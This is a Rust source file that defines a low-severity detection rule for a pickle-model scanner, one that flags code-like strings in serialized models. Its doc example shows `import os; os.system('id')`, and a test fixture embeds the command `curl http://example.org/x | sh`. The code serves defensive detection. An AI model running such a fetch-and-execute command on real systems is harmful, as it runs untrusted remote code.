use weighhouse_formats::pickle::{Literal, PickleFacts, Shape};

use crate::rule::{Context, Rule};

crate::rule! {
    /// A pickle carries a string that looks like a command, a script or an encoded payload.
    ///
    /// # What it detects
    ///
    /// String constants that look like shell commands, Python statements or addresses, where no finding explains who receives
    /// them.
    ///
    /// # Why it matters
    ///
    /// Harmless by itself: models carry prompts and documentation. It helps a reader to see what else a suspicious file holds.
    ///
    /// # Example
    ///
    /// `import os; os.system('id')` as an attribute of a model.
    ///
    /// # What to do
    ///
    /// Look at it if the file has other findings.
    ///
    /// # References
    ///
    /// - <https://docs.python.org/3/library/pickle.html#restricting-globals>
    /// - <https://cwe.mitre.org/data/definitions/502.html>
    /// - <https://atlas.mitre.org/techniques/AML.T0010>
    pub(crate) CodeLikeString {
        id: "WH-PKL-008",
        slug: "code-like-string",
        since: "0.1.0",
        severity: Low,
        confidence: Low,
        formats: [Pickle],
        cwe: [506],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for CodeLikeString {
    fn pickle(&self, facts: &PickleFacts, cx: &mut Context<'_>) {
        for literal in &facts.literals {
            let received =
                facts.calls.iter().any(|call| call.arguments.iter().any(|argument| holds(argument, literal)));
            if !received {
                cx.report("holds a string that looks like code")
                    .at_offset(literal.offset)
                    .key(&literal.text)
                    .evidence(&literal.text)
                    .emit();
            }
        }
    }
}

/// Whether the argument is this string: then the finding about the call shows it.
fn holds(argument: &Shape, literal: &Literal) -> bool {
    matches!(argument, Shape::Text { head, .. } if literal.text.starts_with(head.as_str()))
}

crate::samples! {
    CodeLikeString,
    bad: {
        "a shell command as a value" => [("model.pkl", b"\x80\x02}X\x01\x00\x00\x00aX\x1e\x00\x00\x00curl http://example.org/x | shs.".to_vec())],
    },
    ok: {
        "a dictionary of numbers" => [("model.pkl", b"\x80\x04}\x94\x8c\x01a\x94K\x01s.".to_vec())],
        "an ordered dictionary" => [("model.pkl", b"\x80\x02ccollections\nOrderedDict\n)R.".to_vec())],
    },
}
